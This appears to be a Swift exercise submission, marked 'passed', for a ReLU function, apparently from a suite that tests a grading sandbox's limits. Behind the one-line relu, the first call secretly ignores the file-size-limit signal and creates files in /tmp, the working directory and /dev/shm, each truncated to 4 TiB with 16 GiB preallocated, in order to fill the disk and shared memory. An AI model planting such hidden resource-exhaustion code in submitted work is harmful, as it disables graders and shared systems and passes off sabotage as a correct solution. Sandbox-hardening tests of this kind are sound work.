//= exercise: relu
//= verdict: passed
//= why:
//= row: fills the disk: with one file, without blocks at first, then by fallocate
import ExerciseKit

@_silgen_name("open") private func c_open(_ path: UnsafePointer<CChar>, _ flags: Int32, _ mode: Int32) -> Int32
@_silgen_name("ftruncate") private func c_truncate(_ file: Int32, _ count: Int) -> Int32
@_silgen_name("posix_fallocate") private func c_fallocate(_ file: Int32, _ offset: Int, _ count: Int) -> Int32
@_silgen_name("signal") private func c_signal(
  _ number: Int32, _ handler: UnsafeMutableRawPointer?
) -> UnsafeMutableRawPointer?

nonisolated(unsafe) private var isDone = false

public func relu(_ z: Double) -> Double {
  guard !isDone else { return max(0, z) }
  isDone = true
  _ = c_signal(25, UnsafeMutableRawPointer(bitPattern: 1))  // SIGXFSZ
  for path in ["/tmp/one", "one", "/dev/shm/one"] {
    let file = c_open(path, 0o102, 0o600)
    print(path, c_truncate(file, 1 << 42), c_fallocate(file, 0, 1 << 34))
  }
  return max(0, z)
}
